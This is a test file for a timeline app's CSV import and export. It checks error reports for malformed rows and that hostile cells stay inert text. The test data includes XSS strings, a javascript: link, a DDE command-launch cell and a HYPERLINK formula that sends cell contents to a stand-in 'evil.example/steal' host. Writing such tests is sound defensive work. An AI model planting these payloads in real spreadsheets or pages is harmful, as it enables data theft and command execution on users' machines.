/**
 * A colleague's spreadsheet with mistakes in it, and one with hostile cells: the readable rows are
 * imported, each unreadable one is a problem naming its row (as a spreadsheet numbers it) and its
 * column, and markup or formulas stay text, in the app and in the CSV Chronotes writes.
 */
import { readFileSync } from 'node:fs'
import { describe, expect, it } from 'vitest'
import { exportDocument, importFile } from '../../src/shared/codecs'
import { formatProblem } from '../../src/shared/model/problems'
import { DocumentSchema, type TimelineDocument } from '../../src/shared/model/schema'
import { makeDocument } from './helpers/documents'

const NOW = new Date('2026-01-10T09:00:00.000Z')
const fixture = (name: string) => new Uint8Array(readFileSync(`tests/fixtures/import/${name}`))

function importAccepting(bytes: Uint8Array, name: string) {
  const first = importFile(bytes, name, { now: NOW })
  if (first.status !== 'needs-mapping') throw new Error(`${name}: ${first.status}`)
  return importFile(bytes, name, { now: NOW, mapping: first.suggested })
}

describe('rows that cannot be read', () => {
  const result = importAccepting(fixture('bad-rows.csv'), 'bad-rows.csv')
  if (result.status !== 'ok') throw new Error(JSON.stringify(result))

  it('are listed by row and column, in words, with spreadsheet row numbers', () => {
    // Row 3 has a cell of two lines, and row 12 is blank: neither shifts the numbers.
    expect(result.problems.map(formatProblem)).toEqual([
      "bad-rows.csv, row 4, End: is 2013, before 'Date' 2014",
      'bad-rows.csv, row 5, Date: "sometime in spring 2015" is not a date Chronotes can read',
      'bad-rows.csv, row 6, Title: is empty; every event needs a title',
      'bad-rows.csv, row 7, URL: "javascript:alert(1)" is not a web address (http or https); it was left out',
      'bad-rows.csv, row 9, Date: is empty; every event needs a date',
      'bad-rows.csv, row 10, Date: "31/02/2018" is not a real date',
      'bad-rows.csv, Confidence: has values Chronotes does not know as a confidence level ("High"); those events were marked unverified. Chronotes knows confirmed, reported, disputed and unverified.'
    ])
  })

  it('leave the other rows to be imported', () => {
    const doc = result.document
    expect(doc.items.map((i) => [i.start, i.title])).toEqual([
      ['2014-02-26', "SBU's new chief contacts the CIA"],
      ['2014-04', 'CIA director visits Kyiv'],
      ['2016-01-10', 'Link that is not a web address'],
      ['2017-05-02', 'Reliability in words Chronotes does not know'],
      ['2025-03-05', 'U.S. pauses intelligence sharing']
    ])
    expect(doc.items[1]!.description).toBe(
      "John Brennan's visit, first reported by Interfax.\nMoscow called it proof of U.S. involvement."
    )
    expect(doc.items[2]!.sources).toEqual([])
    expect(doc.items[3]!.confidence).toBe('unverified')
  })

  it('a row with no title takes the first line of its description', () => {
    const csv =
      'Date,Title,Description\n2025-03-05,,"Talks in Jeddah open with a U.S. delegation. They last nine hours.\nSecond line"\n'
    const bytes = new TextEncoder().encode(csv)
    const read = importAccepting(bytes, 'x.csv')
    if (read.status !== 'ok') throw new Error(read.status)
    expect(read.document.items[0]!.title).toBe('Talks in Jeddah open with a U.S. delegation. They last nine hours.')
  })

  it('an over-long title is shortened and kept whole at the top of the description', () => {
    const long = 'word '.repeat(150).trim()
    const bytes = new TextEncoder().encode(`Date,Title,Description\n2025,${long},Body\n`)
    const read = importAccepting(bytes, 'x.csv')
    if (read.status !== 'ok') throw new Error(read.status)
    const item = read.document.items[0]!
    expect(item.title.length).toBeLessThanOrEqual(120)
    expect(item.title.endsWith('…')).toBe(true)
    expect(item.description).toBe(`${long}\n\nBody`)
  })

  it('a file where no row can be read fails with every row’s problem', () => {
    const bytes = new TextEncoder().encode('Date,Title\nsoon,A\nlater,B\n')
    const read = importAccepting(bytes, 'x.csv')
    expect(read.status).toBe('failed')
    expect(read.problems.map((p) => p.where)).toEqual(['row 2', 'row 3'])
  })

  it('an unclosed quote is named, and cells beyond the header are reported', () => {
    const bytes = new TextEncoder().encode('Date,Title\n2025,A,extra\n2026,"B\n2027,C\n')
    const first = importFile(bytes, 'x.csv', { now: NOW })
    expect(first.problems.map(formatProblem)).toEqual([
      'x.csv, row 2: has 3 cells but the header names 2 columns; the cells beyond the last column were not read',
      'x.csv, row 3: a quoted cell is not closed, so everything after its opening quote was read into that cell'
    ])
  })

  it('a file naming more lanes than a document holds puts the rest in one lane, and stays valid', () => {
    const rows = Array.from({ length: 1200 }, (_, i) => `2025,Event ${i},Lane ${i}`)
    const read = importAccepting(new TextEncoder().encode(['Date,Title,Lane', ...rows].join('\n')), 'x.csv')
    if (read.status !== 'ok') throw new Error(read.status)
    expect(read.document.groups).toHaveLength(1000)
    expect(read.document.groups.at(-1)!.title).toBe('Other lanes')
    expect(read.document.items).toHaveLength(1200)
    expect(DocumentSchema.safeParse(read.document).success).toBe(true)
  })

  it('an empty file, or a header alone, is refused in words', () => {
    expect(
      importFile(new TextEncoder().encode('\r\n\r\n'), 'x.csv', { now: NOW, format: 'csv' }).problems[0]!.message
    ).toBe('is empty')
    expect(importFile(new TextEncoder().encode('Date,Title\r\n'), 'x.csv', { now: NOW }).problems[0]!.message).toBe(
      'has a header row but no rows below it'
    )
  })
})

describe('hostile cells', () => {
  const result = importAccepting(fixture('hostile.csv'), 'hostile.csv')
  if (result.status !== 'ok') throw new Error(JSON.stringify(result))
  const [first, second] = result.document.items

  it('markup and formulas are imported as the text they are', () => {
    expect(first!.title).toBe("<script>alert('title')</script>")
    expect(first!.description).toBe('=HYPERLINK("http://evil.example/steal?c="&A1,"Click for source")')
    expect(first!.notes[0]!.body).toBe("<img src=x onerror=alert('note')>")
    expect(first!.tags).toEqual(['=1+2', '@SUM(A1:A9)'])
    expect(second!.title).toBe("+cmd|' /C calc'!A0")
    expect(second!.description).toBe('-2+3')
    expect(second!.tags).toEqual(['<b onmouseover=alert(1)>tag</b>'])
  })

  it('an address with markup in it is still only an address', () => {
    expect(first!.sources.map((s) => s.url)).toEqual(['http://evil.example/<script>'])
    expect(second!.sources.map((s) => s.url)).toEqual(['https://example.org/ok'])
  })

  it('the CSV writer makes every formula-like cell inert with a leading apostrophe, and reads it back exactly', () => {
    const text = exportDocument(result.document, 'csv').text
    const lines = text.split('\r\n')
    const row = (title: string) => lines.find((l) => l.includes(title))!
    expect(row('alert')).toContain(`"'=HYPERLINK(""http://evil.example/steal?c=""&A1,""Click for source"")"`)
    expect(row('calc')).toContain(`'+cmd|' /C calc'!A0`)
    expect(row('calc')).toContain(`,'-2+3,`)
    // No cell of the file starts with a formula character.
    for (const line of lines.slice(1)) expect(line).not.toMatch(/(^|,)"?[=+\-@]/)

    const back = importFile(new TextEncoder().encode(text), 'back.csv', { now: NOW })
    if (back.status !== 'ok') throw new Error(JSON.stringify(back))
    expect(back.document.items.map((i) => [i.title, i.description, i.tags])).toEqual(
      result.document.items.map((i) => [i.title, i.description, i.tags])
    )
  })

  it('a cell that already starts with an apostrophe and a formula character survives the round trip', () => {
    const doc: TimelineDocument = makeDocument({ items: 1 })
    doc.items[0]!.title = "'=not a formula"
    doc.items[0]!.description = "''@twice"
    const text = exportDocument(doc, 'csv').text
    const back = importFile(new TextEncoder().encode(text), 'back.csv', { now: NOW })
    if (back.status !== 'ok') throw new Error(JSON.stringify(back))
    expect(back.document.items[0]!.title).toBe("'=not a formula")
    expect(back.document.items[0]!.description).toBe("''@twice")
  })
})
